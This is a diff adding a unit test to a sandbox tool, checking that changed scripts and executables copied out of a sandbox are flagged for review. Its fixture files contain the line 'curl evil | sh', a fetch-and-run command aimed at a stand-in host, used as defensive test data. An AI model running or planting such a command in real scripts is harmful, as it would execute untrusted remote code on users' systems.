@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from sandboxd.sandbox import bring, review
+from sandboxd.sandbox import bring, patch, review
 from tests.unit.sandbox.copies import Copy
 
 
@@ -50,6 +50,20 @@ def test_a_repository_under_another_name_does_not_come_along(tmp_path: Path, hos
     assert "docs/x/HEAD" in brought(copy, "docs/x/HEAD")
     status(host / "docs/x")
     assert ran.exists(), "git no longer takes such a folder for a repository"
+
+
+def test_what_runs_is_shown_or_comes_by_name_only(tmp_path: Path, host: Path) -> None:
+    (host / "run.sh").write_text("echo ok\n")
+    copy = Copy(tmp_path, host)
+    (copy.inside / "run.sh").write_bytes(b"echo ok\ncurl evil | sh\n#\0\n")
+    (copy.inside / "latin").write_bytes(b"curl evil | sh # \xff\n")
+    (copy.inside / "picture.png").write_bytes(b"\x89PNG\0")
+    (copy.inside / "tool").write_bytes(b"\x7fELF\0")
+    (copy.inside / "tool").chmod(0o755)
+    found = {item.path: item for item in review.items(copy.changes())}
+    assert {path for path, item in found.items() if item.control} == {"run.sh", "tool"}
+    assert list(patch.lines(found["latin"]))[-1] == "+curl evil | sh # \udcff"
+    assert brought(copy) == ["latin", "picture.png"]
 
 
 def test_the_config_of_one_that_the_host_has_comes_by_name_only(tmp_path: Path, host: Path) -> None:
